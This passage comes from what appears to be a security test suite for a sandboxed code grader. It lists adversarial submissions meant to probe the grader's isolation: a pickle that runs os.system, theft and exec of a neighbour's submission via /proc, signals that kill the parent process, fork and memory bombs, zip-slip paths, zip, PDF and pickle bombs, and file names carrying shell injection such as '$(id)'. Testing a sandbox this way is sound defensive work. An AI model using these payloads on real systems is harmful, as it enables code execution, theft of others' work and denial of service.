import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0bank-@PORT@")):
    try:
        with socket.socket(family) as out:
            out.settimeout(0.5)
            out.connect(address)
            out.sendall(b"@TOKEN@")
    except OSError:
        pass
"""
    + FAIL
)
SHARED_MEMORY = (
    """
import ctypes
from multiprocessing import shared_memory
libc = ctypes.CDLL(None)
for key in (@KEY@,):
    libc.shmget(key, 4096, 0o1666)
    libc.semget(key, 1, 0o1666)
    libc.msgget(key, 0o1666)
try:
    shared_memory.SharedMemory("@TOKEN@", create=True, size=64)
except Exception:
    pass
"""
    + FAIL
)

# What other submissions read: the stop words, the packages, and whatever else lies beside them.
POISONS = (
    """
import glob, os, sys
places = [os.environ.get("NLTK_DATA", "."), *sys.path, sys.prefix, os.path.dirname(os.getcwd())]
for path in [*places, *glob.glob("@TEMPORARY@/**", recursive=True), *glob.glob(places[0] + "/**", recursive=True)]:
    for inner in ("", "/@TOKEN@.pth", "/@TOKEN@"):
        try:
            with open(path + inner, "a") as file:
                file.write("# @TOKEN@\\n")
        except (OSError, ValueError):
            pass
    try:
        os.unlink(path)
    except OSError:
        pass
"""
    + FAIL
)

# The code of a submission that is graded at the same time by another grader.
THEFT = (
    """
import glob, os, time
end = time.monotonic() + 0.8
stolen = None
while not stolen and time.monotonic() < end:
    for path in (*glob.glob("@TEMPORARY@/**/assignment2.py", recursive=True), *glob.glob("/tmp/*/*/assignment2.py"),
                 *glob.glob("/proc/[0-9]*/cwd/assignment2.py"),
                 *glob.glob("/proc/[0-9]*/root/cell/submission/assignment2.py")):
        try:
            text = open(path).read()
            if "@TOKEN@" not in text:
                stolen = text
        except OSError:
            pass
"""
    + FAIL
    + """
if stolen:
    exec(stolen)
"""
)

# One task leaves the answers for the next, or the next submission.
REMEMBERS = (
    GOT
    + """
import os
places = (".", "..", "~", "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "@TEMPORARY@", "@OPEN@")
paths = [os.path.expanduser(place) + "/@TOKEN@-answers" for place in places]
for path in paths:
    if os.path.exists(path):
        got("what an earlier task left: " + path)
for path in paths:
    try:
        open(path, "w").write("0.5")
        os.chmod(path, 0o777)
    except OSError:
        pass
"""
    + FAIL
)

LEAVES = (
    """
import os
for top in ("/tmp", "/var", "/run", "/dev", "/srv", "/mnt", "/opt", "/home", "@TEMPORARY@", "@OPEN@"):
    for folder, inner, _ in os.walk(top):
        if folder.count("/") > 5:
            inner.clear()
        try:
            os.makedirs(f"{folder}/@TOKEN@/a")
            open(f"{folder}/@TOKEN@/a/file", "w").close()
        except OSError:
            pass
        inner[:] = [name for name in inner if name != "@TOKEN@"]
"""
    + FAIL
)

QUEUE = (
    """
import ctypes
libc = ctypes.CDLL(None)
for name in (b"/@TOKEN@", b"/@TOKEN@-2"):
    try:
        libc.mq_open(name, 0o102, 0o666, None)
        libc.sem_open(name, 0o100, 0o666, 1)
    except AttributeError:
        pass
"""
    + FAIL
)

# A secret in the kernel's keyring of the user, for whoever has that user id next.
KEYRING = (
    GOT
    + """
import ctypes
libc = ctypes.CDLL(None)
if any(libc.syscall(250, 10, ring, b"user", b"@TOKEN@", 0) > 0 for ring in (-4, -5)):
    got("a key that an earlier task left")
for ring in (-4, -5):
    libc.syscall(248, b"user", b"@TOKEN@", b"0.5", 3, ring)
"""
    + FAIL
)

# Folders and files that this process was born with, and memory that it was born with.
BORN_WITH = (
    GOT
    + """
import os, stat
for fd in range(256):
    try:
        status = os.fstat(fd)
    except OSError:
        continue
    name = os.readlink(f"/proc/self/fd/{fd}")
    if stat.S_ISDIR(status.st_mode) or stat.S_ISREG(status.st_mode):
        got(f"descriptor {fd}: {name}")
for line in open("/proc/self/environ", "rb").read().split(b"\\0"):
    if b"@TREE@" in line or b"@NEIGHBOUR@" in line:
        got(line)
"""
    + FAIL
)

# Directly, and by the kernel on behalf of a socket. To its parent alone: in the cell `process`, SIGNALS would end all
# that the user of the grader has running, should the cell let it.
TO_PARENT = (
    """
import fcntl, os, signal, socket
for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in (os.getppid(), os.getsid(os.getppid())):
        ours, theirs = socket.socketpair()
        for act in (lambda: os.kill(pid, number), lambda: fcntl.fcntl(ours, 10, number),  # F_SETSIG
                    lambda: fcntl.fcntl(ours, fcntl.F_SETOWN, pid),
                    lambda: fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC), lambda: theirs.send(b"x")):
            try:
                act()
            except OSError:
                pass
"""
    + FAIL
)

SLOWS = (
    """
import fcntl, os
for pid in (os.getppid(), 1):
    for act in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
        try:
            act()
        except OSError:
            pass
for path in ("@NEIGHBOUR@/assignment2.py", "@TREE@/assignment2.py", "@TEMPORARY@"):
    try:
        fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX)
    except OSError:
        pass
"""
    + FAIL
)

# ---- Other files ---------------------------------------------------------------------------------


class Runs:
    """Pickles to a call of os.system."""

    def __reduce__(self):
        return os.system, ("touch /tmp/@TOKEN@-pickle; echo '{\"answer\": 0}'",)


def with_token(content, token):
    """Bytes with @TOKEN@ as `token`, of the same length."""
    return content.replace(b"@TOKEN@", token[:7].encode())


def pickle_that_runs(folder, neighbour, token):
    (folder / "assignment2.pkl").write_bytes(
        with_token(pickle.dumps({**pickle.loads(good_pickle()), "x": Runs()}), token)
    )


def pickle_that_grows(folder, neighbour, token):
    """Two lists, each holding the one before a hundred times, thirty deep; and a text that claims four gigabytes."""
    grown = b"\x80\x04]\x94" + b"".join(b"](" + b"h%c" % k * 100 + b"e\x94" for k in range(30)) + b"."
    (folder / "assignment2.pkl").write_bytes(
        grown if token[0] < "8" else b"\x80\x04\x8d" + struct.pack("<Q", 4 << 30) + b"x."
    )


def links(folder, neighbour, token):
    for name in ("assignment2.pkl", "assignment2.pdf"):
        (folder / name).unlink()
        (folder / name).symlink_to(neighbour / name)
    (folder / "assignment2.py").unlink()
    (folder / "assignment2.py").symlink_to(neighbour / "assignment2.py")
    (folder / "Assignment2").symlink_to(neighbour)
    (folder / "loop").symlink_to(folder)
    (folder / "utils.py").symlink_to("/dev/zero")


def huge(folder, neighbour, token):
    for name in ("assignment2.pkl", "assignment2.pdf", "utils.py"):
        with open(folder / name, "wb") as file:
            file.truncate(1 << 40)


def pipes(folder, neighbour, token):
    for name in ("assignment2.pkl", "assignment2.pdf", "utils.py"):
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)
    os.mkfifo(folder / "more.zip")


def crowd(folder, neighbour, token):
    for k in range(2100):
        (folder / f"{k}").symlink_to("/etc/passwd")
    os.makedirs(folder / "/".join("d" * 480))
    here = os.open(folder / "/".join("d" * 480), os.O_RDONLY)
    for _ in range(600):  # deeper than a path may be long, and than Python can walk
        os.mkdir("d", dir_fd=here)
        inner = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(here)


def shadows(folder, neighbour, token):
    names = (
        "numpy json child wire source documents plots reader ast pickle math pypdf nltk encodings traceback linecache"
    )
    for name in names.split():
        (folder / f"{name}.py").write_text("import os\nos._exit(0)\n")
    (folder / "sitecustomize.py").write_text("import os\nos._exit(0)\n")


def pdf_that_grows(folder, neighbour, token):
    stream = zlib.compress(zlib.compress(bytes(200 << 20), 1), 9)
    (folder / "assignment2.pdf").write_bytes(
        good_pdf().split(b"4 0 obj")[0]
        + b"4 0 obj\n<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream)
        + stream
        + b"\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n"
    )


def pkl(content):
    """An assignment2.pkl of these bytes."""

    def write(folder, neighbour, token):
        (folder / "assignment2.pkl").write_bytes(content)

    return write


def endless_dict():
    content = pickle.loads(good_pickle())
    content["W1"] = [content, content]
    content["b1"] = [content["W1"]] * 100
    return pickle.dumps(content)


def npz(*entries):
    """An archive of numpy with a W1 for each (header, content)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, (header, content) in zip(("W1", "b1", "W2", "b2"), entries, strict=True):
            archive.writestr(f"{name}.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header + content)
    return buffer.getvalue()


def header(shape, dtype="<f8"):
    return f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}\n".encode()


BAD_ARCHIVE = npz(
    (header("(1000000000,)"), b"x" * 100),
    (header("(1,)", "|O"), pickle.dumps(Runs())),
    (header("(" * 9000), b""),
    (header("(-1, -1)"), b"x" * 100),
)
ONE_LARGE = b"\x80\x04}(\x8c\x02W1\x8b" + struct.pack("<i", 15 << 20) + b"\x7f" * (15 << 20) + b"u."


def pdf(*objects, trailer=b"<< /Size 9 /Root 1 0 R >>"):
    """An assignment2.pdf of these objects from number 3 on; 1 is the catalogue, 2 the pages, 3 what they hold."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *objects]
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % numbered for numbered in enumerate(objects, 1))

    def write(folder, neighbour, token):
        (folder / "assignment2.pdf").write_bytes(
            b"%PDF-1.7\n" + body + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 9)
        )

    return write


def stream(content, entries=b""):
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %b >>\nstream\n%b\nendstream" % (len(packed), entries, packed)


PAGE = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> >>"
FONT = b"<< /Type /Font /Subtype /Type0 /BaseFont /F /Encoding /Identity-H /ToUnicode 7 0 R >>"
RANGES = b"1 beginbfrange\n" + b"<0000> <FFFFFFFF> <0000>\n" * 500 + b"endbfrange\n"
FORM = stream(b"/X Do " * 100_000, b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 6 0 R >> >>")


def code(name, content):
    """In place of assignment2.py, a file of these bytes."""

    def write(folder, neighbour, token):
        (folder / "assignment2.py").unlink()
        (folder / name).write_bytes(content)

    return write


def notebook(source):
    """A notebook with a cell whose source is this JSON."""
    return b'{"cells": [{"cell_type": "code", "source": ' + source + b"}]}"


def folders(folder, neighbour, token):
    for name in ("assignment2.py", "assignment2.pkl", "assignment2.pdf"):
        (folder / name).unlink()
    for name in ("assignment2.py", "assignment2.pkl", "assignment2.pdf", "utils.py", "tweets.pkl", "twitter_data.pkl"):
        (folder / name / "assignment2.py").mkdir(parents=True)


def planted(folder, neighbour, token):
    """Folders and links with the names of files that the grader lays beside the code."""
    for name in ("tweets.pkl", "more_tweets.pkl", "exchanged.pkl"):
        (folder / name).mkdir()
    for name in ("utils.py", "twitter_data.pkl", "usual_test.pkl"):
        (folder / name).symlink_to(neighbour / name)


def long_paths(folder, neighbour, token):
    """Names that make a list of a hundred thousand bytes."""
    inner = folder / ("d" * 200) / ("e" * 200)
    inner.mkdir(parents=True)
    for k in range(195):
        (inner / f"{k}{'f' * 100}").touch()


def odd_names(folder, neighbour, token):
    for name in (
        b"\xff\xfe.py",
        b"assignment2.py\n",
        b"\xe2\x80\xae.txt",
        b" ",
        b"-rf",
        b"con",
        b"\x1b[2J",
        b"'\"$(id)`",
    ):
        with open(os.path.join(os.fsencode(folder), name), "w"):
            pass
    renamed = os.path.join(os.fsencode(folder.parent), b"\xff=1+1\n\x1b[2J" + token.encode())
    os.rename(folder, renamed)
    return type(folder)(os.fsdecode(renamed))


def pipe(folder, neighbour, token):
    os.mkfifo(folder.parent / "attacker.zip")
    return folder.parent / "attacker.zip"


def changes(folder, neighbour, token):
    """Files that become links to another submission, and back, and grow, while they are read."""

    def change():
        try:
            while True:
                for name in ("assignment2.py", "assignment2.pkl"):
                    os.symlink(neighbour / name, folder / "new")
                    os.replace(folder / "new", folder / name)
                    (folder / "new").write_bytes(b"raise SystemExit\n" * 1000)
                    os.replace(folder / "new", folder / name)
        except OSError:
            pass  # the folder is gone

    threading.Thread(target=change, daemon=True).start()


# ---- Zips ----------------------------------------------------------------------------------------


def zipped(entries):
    """A zip of (name, content) or (name, content, mode), to be graded in place of the folder."""

    def write(folder, neighbour, token):
        with zipfile.ZipFile(folder.parent / "attacker.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content, *mode in entries(token, neighbour):
                entry = zipfile.ZipInfo(name)
                entry.compress_type = zipfile.ZIP_DEFLATED
                entry.external_attr = (mode[0] if mode else 0o100644) << 16
                archive.writestr(entry, content)
        return folder.parent / "attacker.zip"

    return write


def packed(content):
    """(how it is packed, the packed bytes, size, checksum) of a zip's entry."""
    deflate = zlib.compressobj(1, zlib.DEFLATED, -15)
    return 8, deflate.compress(content) + deflate.flush(), len(content), zlib.crc32(content)


def by_hand(*entries):
    """A zip of (name, packed(...)) or (name, packed(...), flags), written out, with whatever is in them."""

    def content(token):
        body, table = bytearray(), bytearray()
        for name, (method, data, size, checksum), *flags in entries:
            name = name.replace(b"@TOKEN@", token.encode())
            common = struct.pack(
                "<HHHHHIIIHH", 20, flags[0] if flags else 0, method, 0, 33, checksum, len(data), size, len(name), 0
            )
            table += b"PK\1\2\24\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name
            body += b"PK\3\4" + common + name + data
        end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(table), len(body), 0)
        return bytes(body + table + b"PK\5\6" + end)

    def write(folder, neighbour, token):
        (folder.parent / "attacker.zip").write_bytes(content(token))
        return folder.parent / "attacker.zip"

    write.content = content
    return write


def nest(depth):
    """Zips in one another, three in each."""
    inner = by_hand((b"assignment2.py", packed(FAIL.encode()))).content("")
    for _ in range(depth):
        inner = by_hand(*((b"%d.zip" % k, packed(inner)) for k in range(3))).content("")
    return inner


WRONG, NOTHING = packed(FAIL.encode()), packed(b"")
LARGE, ZEROS = packed(bytes(19 << 20)), packed(bytes(21 << 20))  # up to the limit, and above
BESIDE = [("assignment2.pkl", good_pickle()), ("assignment2.pdf", good_pdf())]
LEADS_OUT = zipped(
    lambda token, neighbour: [
        ("assignment2.py", FAIL),
        *BESIDE,
        *(
            (f"{up}/{token}", "x")
            for up in ("..", "../..", "../../../../../../tmp", "/tmp", "a/../../..", "C:\\tmp", "..\\..")
        ),
        (str(neighbour / "assignment2.py"), "x"),
        (f"../neighbour/{token}", "x"),
        ("link", str(neighbour), 0o120777),
        ("link/assignment2.py", "x"),
        ("device", "", 0o020666),
        ("setuid.py", "x", 0o104777),
        *((f"../{k}", "x") for k in range(2100)),
    ]
)
BOMB = by_hand(
    (b"assignment2.py", WRONG),
    (b"utils.py", ZEROS),
    *((b"%d.txt" % k, LARGE) for k in range(12)),
)
MANY_TOO_LARGE = by_hand((b"assignment2.py", WRONG), *((b"%d.txt" % k, ZEROS) for k in range(500)))
ODD_ENTRIES = by_hand(
    (b"assignment2.py", WRONG),
    (b"assignment2.py", packed(SOURCES["handout"].encode()[:-9])),  # the same name twice
    (b"ASSIGNMENT2.PY", WRONG),
    (b"assignment2.py/", NOTHING),
    (b"assignment2.py/x.py", NOTHING),
    (b"\xff\xfe.txt", NOTHING),
    (b"", NOTHING),
    (b"/", NOTHING),
    (b".", NOTHING),
    (b"con", NOTHING),
    (b"nul.txt", NOTHING),
    (b"a\0../../@TOKEN@", NOTHING),
    (b"a" * 60_000, NOTHING),
    (b"b/" * 20_000 + b"x", NOTHING),
    (b"\\\\host\\share\\@TOKEN@", NOTHING),
    (b"d:@TOKEN@", NOTHING),
    (b"~/@TOKEN@", NOTHING),
    (b"x\n\x1b[2J\xe2\x80\xae", NOTHING),
)
NO_TEXT = by_hand((b"assignment2.py", WRONG), (b"\xff\xfe.txt", NOTHING, 0x800))  # said to be UTF-8
DAMAGED = by_hand(
    (b"assignment2.py", WRONG),
    (b"a", (8, b"\xff" * 99, 99, 0)),
    (b"b", (8, ZEROS[1], 10, 0)),  # smaller than it says
    (b"c", (8, WRONG[1], 4 << 29, 0)),
    (b"d", WRONG, 1),  # encrypted
    *((b"method %d" % method, (method, b"\xff" * 99, 99, 0)) for method in (1, 6, 9, 12, 14, 93, 99)),
    *((b"e", WRONG) for _ in range(500)),
)

# Each answer another number, so that no property of it can be wrong twice.
CHANGING = """
import itertools
import numpy as np
count = itertools.count(2)
""" + every("""
k = next(count) * 1.0
if name == "sigmoid":
    return np.full(np.shape(args[0]), k)
if name == "inference_layer":
    return np.full((len(args[1]),) + args[0].shape[1:], k)
if name == "inference_2layers":
    return np.full(args[0].shape[1] if args[0].ndim > 1 else 1, k)
if name == "gradients":
    return *(np.full_like(part, k, float) for part in args[2:5]), k, k
return tuple(np.full_like(part, k, float) for part in args[2:6]) if name == "update_params" else k
""")

ATTACKS = [
    Attack("replies forged on the channel", FORGED, only=CODE),
    Attack("answers that change from call to call", CHANGING, only=CODE, most=2),
    Attack("malformed replies", MALFORMED, only=FEW),
    Attack("a nest of tuples", NESTED, only=FEW),
    Attack("long error messages", LONG_WORDS, only=FEW),
    Attack("a forged failure", FAILED_WORDS, only=FEW),
    Attack("replies that fill the grader's memory", HEAVY_WORDS),
    Attack("one endless line", FLOOD),
    Attack("asks the stand-ins for every answer", ORACLE, only=CODE),
    Attack("functions found by gc and sys.modules", FUNCTIONS_ANYWHERE, only=FEW),
    Attack("imports the reference", MODULES, where=ALL),
    Attack("reads the reference's file", REFERENCE_FILE, where=ALL),
    Attack("expected values in frames and gc", FRAME_VALUES, only=FEW),
    Attack("the inputs' seed", SEEDS, where=OTHER),
    Attack("numpy patched", PATCHED, only=FEW),
    Attack("subclass of ndarray", SUBCLASS, only=(*CODE, "Q5.1"), most=5),  # for the number of values, which is right
    Attack("object that agrees", AGREEING, only=FEW),
    Attack("inputs changed", MUTATED_INPUTS, only=CODE, most=3),  # and for gradients that are finite
    Attack("child.py patched", TRACED, only=FEW),
    Attack("numbers that no float holds", BEYOND_FLOATS, only=STAND_INS),
    Attack("forged words about the module", LOADED_WORDS),
    Attack("two processes answer", TWO_PROCESSES, where=PROCESS, only=STAND_INS),
    Attack("a thread answers", THREAD_ANSWERS, only=FEW),
    Attack("half a message", HALF_A_MESSAGE),
    Attack("asks and never reads", NEVER_READS, only=STAND_INS, patience=SHORT),
    Attack("descriptors and urgent bytes on the channel", ODD_PACKETS, where=OTHER),
    Attack("changes the calls to come", OTHER_CALLS, only=FEW),
    Attack("hides that it changed the inputs", HIDDEN_CHANGE, only=("Q4",), most=9),
    Attack("words that turn the text round", TURNED_WORDS, only=FEW),
    Attack("errors that fight back", FIGHTING_ERRORS, only=FEW),
    Attack("names that are no names", NO_NAMES),
    Attack("a module with any name", ANY_NAME),
    Attack("a hundred thousand names", MANY_NAMES),
    Attack("values without end", ENDLESS_VALUES, patience=SHORT),
    Attack("values of every kind", ODD_VALUES),
    Attack("hooks in the interpreter", HOOKS),
    Attack("results.json and os._exit", RESULTS, where=OTHER),
    Attack("writes at exit", AT_EXIT, where=OTHER),
    Attack("sys.exit on import", EXIT_ON_IMPORT, only=FEW),
    Attack("kills itself", KILLED, only=FEW),
    Attack("stops itself", STOPPED, patience=SHORT),
    Attack("segmentation fault", SEGFAULT),
    Attack("stack overflow", STACK),
    Attack("code too deep to parse", PARSER),
    Attack("statements without number", MANY_STATEMENTS, patience=SHORT),
    Attack("brackets that never close", UNCLOSED, patience=SHORT),
    Attack("lines that take long to read", BLANKS, patience=SHORT),
    Attack("endless loop", ENDLESS, where=PROCESS, patience=SHORT),
    Attack("endless import without the clock", NO_CLOCK, where=PROCESS, patience=SHORT),
    Attack("sleeps to the limit", SLEEPS, patience=SHORT),
    Attack("ignores every signal", DEAF, where=PROCESS, patience=SHORT),
    Attack("memory bomb", MEMORY),
    Attack("memory in files without a name", HOLDS_MEMFD, where=ALL, patience=0.2),
    Attack("memory that nobody holds", HOLDS_NOWHERE, where=OTHER, patience=0.2, cgroup=True),
    Attack("memory in many processes", HOLDS_IN_FORKS, where=ALL, patience=0.2),
    Attack("fork bomb", FORKS, where=CELLS, patience=SHORT),
    Attack("runs away by forks", RUNS_AWAY, where=CELLS, patience=SHORT),
    Attack("grandchildren in sessions of their own", GRANDCHILD, where=ALL),
    Attack("grandchildren adopted", ADOPTS, where=ALL),
    Attack("threads left running", THREAD, where=PROCESS, patience=SHORT),
    Attack("endless output", PRINTS, patience=SHORT),
    Attack("fills the disk", FILLS_DISK, where=OTHER),
    Attack("fills it with files", MANY_FILES, where=("root", "nobody")),
    Attack("a very deep folder", DEEP_FOLDERS, where=ALL),
    Attack("folders closed to all", CLOSED_FOLDERS, where=ALL),
    Attack("writes into other submissions", OTHERS, where=ALL),
    Attack("poisons what others read", POISONS, where=ALL),
    Attack("steals from a neighbour at work", THEFT, where=("user", "process"), beside=True),
    Attack("remembers from task to task", REMEMBERS, where=ALL, only=STAND_INS),
    Attack("leaves files where it can", LEAVES, where=ALL),
    Attack("leaves a queue of messages", QUEUE, where=ALL),
    Attack("leaves a key in the kernel", KEYRING, where=OTHER, only=STAND_INS),
    Attack("looks at what it was born with", BORN_WITH, where=ALL),
    Attack("changes permissions", PERMISSIONS, where=CELLS),
    Attack("signals to the grader", SIGNALS, where=CELLS),
    Attack("signals to its parent", TO_PARENT, where=ALL),
    Attack("slows the grader", SLOWS, where=CELLS),
    Attack("traces the grader", TRACES, where=ALL),
    Attack("closes descriptors", CLOSES),
    Attack("writes to every descriptor", TAKES_DESCRIPTORS, where=OTHER),
    Attack("raises its limits", RAISES_LIMITS, where=OTHER),
    Attack("environment and modules", ENVIRONMENT, where=OTHER),
    Attack("connects to this machine", NETWORK, where=ALL),
    Attack("shared memory", SHARED_MEMORY, where=CELLS),
    Attack("a pickle that runs code", FAIL, OTHER, PKL, prepare=pickle_that_runs),
    Attack("a pickle that grows", FAIL, only=PKL, prepare=pickle_that_grows),
    Attack("a pickle with two billion memos", FAIL, only=PKL, prepare=pkl(b"\x80\x04}r\xff\xff\xff\x7f.")),
    Attack("a pickle of marks", FAIL, only=PKL, prepare=pkl(b"\x80\x04" + b"(" * (15 << 20) + b".")),
    Attack("a pickle that holds itself", FAIL, only=PKL, most=3, prepare=pkl(endless_dict())),
    Attack("a pickle of one large number", FAIL, only=PKL, most=3, prepare=pkl(ONE_LARGE), patience=SHORT),
    Attack("an archive of lying arrays", FAIL, only=PKL, prepare=pkl(BAD_ARCHIVE)),
    Attack("links to another submission", FAIL, only=("Q1.1", "Q5.2"), prepare=links),
    Attack("sparse files of a terabyte", FAIL, only=("Q1.1", "Q5.2"), prepare=huge),
    Attack("pipes for files", FAIL, only=("Q1.1", "Q5.2"), prepare=pipes),
    Attack("a pipe for the submission", FAIL, prepare=pipe),
    Attack("links and folders without end", FAIL, prepare=crowd),
    Attack("folders for files", FAIL, only=("Q1.1", "Q5.2"), prepare=folders),
    Attack("folders for the grader's files", FAIL, prepare=planted),
    Attack("a hundred thousand bytes of names", FAIL, prepare=long_paths),
    Attack("names that are no text", FAIL, prepare=odd_names),
    Attack("files that change while they are read", FAIL, only=("Q1.1", "Q5.2"), most=10, prepare=changes),
    Attack("modules in place of numpy's", FAIL, only=("Q1.1", "Q2", "Q5.2"), most=10, prepare=shadows),
    Attack("a notebook without a bottom", FAIL, prepare=code("a.ipynb", b'{"cells": ' + b"[" * 900_000)),
    Attack(
        "a notebook of odd cells",
        FAIL,
        prepare=code("a.ipynb", notebook(b"[" + b'1e300, null, ["x"], {}, ' * 100_000 + b"0]")),
    ),
    Attack("a notebook that is no text", FAIL, prepare=code("a.ipynb", notebook(b'"' + b"\\ud800" * 99 + b'"'))),
    Attack("a PDF that grows", FAIL, only=PDF, prepare=pdf_that_grows, patience=SHORT),
    Attack("a PDF whose pages hold themselves", FAIL, only=PDF, prepare=pdf(b"<< /Type /Pages /Kids [2 0 R 3 0 R] >>")),
    Attack("a PDF of a billion pages", FAIL, only=PDF, prepare=pdf(b"<< /Type /Pages /Count 1000000000 /Kids [] >>")),
    Attack("a PDF of brackets", FAIL, only=PDF, prepare=pdf(b"[" * 1_000_000), patience=SHORT),
    Attack(
        "a PDF with an endless font",
        FAIL,
        only=PDF,
        patience=SHORT,
        prepare=pdf(PAGE, stream(b"BT /F 9 Tf <0001> Tj ET"), FONT, b"null", stream(RANGES)),
    ),
    Attack(
        "a PDF whose forms draw themselves",
        FAIL,
        only=PDF,
        patience=SHORT,
        prepare=pdf(PAGE, stream(b"/X Do " * 100_000), FONT, FORM, b"null"),
    ),
    Attack(
        "a PDF of wide rows",
        FAIL,
        only=PDF,
        patience=SHORT,
        prepare=pdf(PAGE, stream(b"x" * 99, b"/DecodeParms << /Predictor 12 /Columns 1000000000 >>")),
    ),
    Attack(
        "a PDF with a billion objects",
        FAIL,
        only=PDF,
        patience=SHORT,
        prepare=pdf(stream(bytes(99), b"/Type /XRef /Root 1 0 R /Size 1000000000 /Index [0 1000000000] /W [0 0 0]")),
    ),
    Attack(
        "a PDF that begins before itself",
        FAIL,
        only=PDF,
        patience=SHORT,
        prepare=pdf(PAGE, b"<< /Length 4 0 R >>\nstream\nx\nendstream", trailer=b"<< /Root 1 0 R /Size 9 /Prev 9 >>"),
    ),
    Attack("a zip that leads out", FAIL, prepare=LEADS_OUT),
    Attack("a zip bomb", FAIL, prepare=BOMB),
    Attack("a zip of files that are too large", FAIL, prepare=MANY_TOO_LARGE),
    Attack("a zip of zips of zips", FAIL, prepare=by_hand((b"a.zip", packed(nest(5))))),
    Attack("a zip of odd names", FAIL, prepare=ODD_ENTRIES),
    Attack("a zip whose names are no text", FAIL, prepare=NO_TEXT),
    Attack("a zip that lies about its files", FAIL, prepare=DAMAGED),
]
